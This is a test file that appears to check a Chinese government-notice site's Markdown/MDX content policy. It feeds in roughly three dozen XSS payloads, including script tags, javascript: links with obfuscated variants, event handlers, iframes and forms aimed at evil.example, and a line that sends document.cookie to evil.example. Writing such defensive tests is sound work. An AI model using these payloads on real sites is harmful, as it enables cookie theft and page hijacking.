import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTempProject, runScript, type TempProject } from '../support/project-copy';

/** A valid frontmatter (8 lines incl. ---) and blank line: the attack sits on line 10. */
const ATTACK_LINE = 10;
const notice = (n: number, body: string, extra = '') =>
  `---\ntitle: 内容安全测试${n}\nindexNo: 11330602056860309P/2024-${String(70000 + n)}\ncategory: 通知公告\nissuer: 区科技局\ndate: 2024-05-01\npublishedAt: 2024-05-06T09:00:00+08:00\n${extra}---\n\n${body}\n`;

/** name → [body, what the message must say]. Each file carries one attack. */
const ATTACKS: Record<string, [string, RegExp]> = {
  // MDX is code: no imports, exports, expressions or unknown components.
  'mdx-import.mdx': ["import Evil from '../../components/Evil.astro'", /import\/export/],
  'mdx-export.mdx': ['export const steal = () => fetch("https://evil.example")', /import\/export/],
  'mdx-expression.mdx': ['正文 {fetch("https://evil.example/?c=" + document.cookie)}', /表达式/],
  'mdx-attribute-expression.mdx': ['<提示 标题={alert(1)}>内容</提示>', /不允许 \{表达式\}/],
  'mdx-unknown-component.mdx': ['<Evil />', /不允许使用组件 <Evil>/],
  'mdx-spread.mdx': ['<提示 {...window}>内容</提示>', /展开属性/],
  'mdx-script.mdx': ['<script>alert(1)</script>', /<script>/],
  'mdx-onclick.mdx': ['<div onClick="alert(1)">点我</div>', /事件处理属性「onClick」/],
  'mdx-javascript-href.mdx': ['<a href="javascript:alert(1)">链接</a>', /javascript:/],
  // Markdown and MDX alike: dangerous elements.
  'md-script.md': ['<script>alert(1)</script>', /<script>/],
  'md-iframe.md': ['<iframe src="https://evil.example"></iframe>', /<iframe>/],
  'md-object.md': ['<object data="https://evil.example/x.swf"></object>', /<object>/],
  'md-embed.md': ['<embed src="https://evil.example/x.swf">', /<embed>/],
  'md-style.md': ['<style>body{display:none}</style>', /<style>/],
  'md-base.md': ['<base href="https://evil.example/">', /<base>/],
  'md-meta.md': ['<meta http-equiv="refresh" content="0;url=https://evil.example">', /<meta>/],
  'md-form.md': ['<form action="https://evil.example"><button>领取补贴</button></form>', /<form>/],
  'mdx-iframe.mdx': ['<iframe src="https://evil.example" />', /<iframe>/],
  // Event handlers and inline styles.
  'md-onerror.md': ['<img src="/x.png" onerror="alert(1)">', /事件处理属性「onerror」/],
  'md-style-attribute.md': ['<p style="position:fixed;inset:0">广告</p>', /style 属性/],
  // Addresses.
  'md-javascript-link.md': ['[点击](javascript:alert(1))', /javascript:/],
  'md-vbscript-link.md': ['[点击](vbscript:msgbox(1))', /vbscript:/],
  'md-data-link.md': [
    '[点击](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    /data:/,
  ],
  'md-data-image.md': ['![图](data:text/html,hello)', /data:/],
  'md-javascript-image.md': ['<img src="javascript:alert(1)">', /javascript:/],
  // Obfuscated variants: case, character references, whitespace inside the scheme.
  'variant-mixed-case-tag.md': ['<ScRiPt>alert(1)</sCrIpT>', /<script>/],
  'variant-mixed-case-scheme.md': ['[点击](JaVaScRiPt:alert(1))', /javascript:/],
  'variant-upper-iframe.md': ['<IFRAME SRC="https://evil.example"></IFRAME>', /<iframe>/],
  'variant-decimal-entities.md': ['<a href="&#106;&#97;vascript:alert(1)">链接</a>', /javascript:/],
  'variant-hex-entity-link.md': ['[点击](&#x6A;avascript:alert(1))', /javascript:/],
  'variant-named-colon.md': ['<a href="javascript&colon;alert(1)">链接</a>', /javascript:/],
  'variant-tab-in-scheme.md': ['<a href="java\tscript:alert(1)">链接</a>', /javascript:/],
  'variant-entity-tab.md': ['<a href="java&#x09;script:alert(1)">链接</a>', /javascript:/],
  'variant-leading-space.md': ['<a href=" javascript:alert(1)">链接</a>', /javascript:/],
  'variant-mixed-case-handler.md': ['<img src="/x.png" OnErRoR="alert(1)">', /事件处理属性/],
  'variant-svg-onload.md': ['<svg onload="alert(1)"></svg>', /<svg>|事件处理属性/],
  'variant-mdx-entity-scheme.mdx': ['<a href="&#106;avascript:alert(1)">链接</a>', /javascript:/],
};

/** Content that must pass: the policy rejects only what is dangerous. */
const ALLOWED: Record<string, string> = {
  'ok-data-png.md': '![图](data:image/png;base64,iVBORw0KGgo=)',
  'ok-links.md':
    '[门户](https://kjt.zj.gov.cn) [邮件](mailto:a@b.cn) [电话](tel:88718631) [站内](/browse/)',
  'ok-table-html.md': '<table><tr><th>序号</th></tr><tr><td>1</td></tr></table>',
  'ok-components.mdx':
    '<提示 标题="提示">内容</提示>\n\n<落款 机构="区科技局" 日期="2024年5月1日" />\n\n{/* 编辑备注 */}',
};

describe('the content policy, through npm run check', () => {
  let project: TempProject;
  let problems: Array<{ file: string; line: number | null; field: string; message: string }>;
  beforeAll(() => {
    const files: Record<string, string> = {};
    let n = 0;
    for (const [name, [body]] of Object.entries(ATTACKS))
      files[`policy/${name}`] = notice(++n, body);
    for (const [name, body] of Object.entries(ALLOWED)) files[`policy/${name}`] = notice(++n, body);
    project = createTempProject({ notices: files });
    const r = runScript('check', ['--root', project.root, '--format', 'json']);
    expect(r.status).toBe(1);
    problems = JSON.parse(r.stdout);
  });
  afterAll(() => project.remove());

  it.each(Object.entries(ATTACKS))(
    'rejects %s with its line and a Chinese reason',
    (name, [, message]) => {
      const mine = problems.filter((p) => p.file === `src/content/notices/policy/${name}`);
      expect(
        mine.length,
        JSON.stringify(problems.filter((p) => p.file.includes('policy')).map((p) => p.file)),
      ).toBeGreaterThan(0);
      expect(mine.every((p) => p.field === 'body')).toBe(true);
      expect(
        mine.some((p) => message.test(p.message) && p.line === ATTACK_LINE),
        JSON.stringify(mine),
      ).toBe(true);
    },
  );

  it.each(Object.keys(ALLOWED))('accepts the harmless %s', (name) => {
    expect(problems.filter((p) => p.file === `src/content/notices/policy/${name}`)).toEqual([]);
  });

  it('flags an <附件> reference beyond the notice’s attachments, and a component in a .md file', () => {
    const p2 = createTempProject({
      notices: {
        'a.mdx': notice(
          90,
          '<附件 序号="2">指南</附件>',
          'attachments:\n  - { title: 指南, href: /files/keji-pingjia-zhinan.txt }\n',
        ),
        'b.md': notice(91, '<落款 机构="区科技局" />'),
      },
    });
    const r = runScript('check', ['--root', p2.root, '--format', 'json']);
    const found = JSON.parse(r.stdout) as Array<{ file: string; message: string }>;
    p2.remove();
    expect(found.find((p) => p.file.endsWith('a.mdx'))?.message).toMatch(/本文共有 1 个附件/);
    expect(found.find((p) => p.file.endsWith('b.md'))?.message).toMatch(/只能在 \.mdx 文件中使用/);
  });
});
